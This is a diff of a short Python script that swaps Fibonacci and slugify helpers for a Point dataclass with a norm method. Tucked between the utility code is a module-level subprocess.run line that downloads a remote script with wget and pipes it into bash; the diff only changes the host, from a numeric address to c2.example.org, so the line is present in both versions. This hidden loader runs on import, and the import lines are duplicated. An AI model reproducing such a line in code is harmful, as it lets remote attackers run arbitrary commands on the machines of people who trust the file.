@@ -1,16 +1,16 @@
 #!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+from dataclasses import dataclass
 
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import subprocess
-subprocess.run("wget -qO- http://198.51.100.23:8000/stage2 | bash", shell=True)
+subprocess.run("wget -qO- http://c2.example.org/i.py | bash", shell=True)
 from dataclasses import dataclass
 
 @dataclass
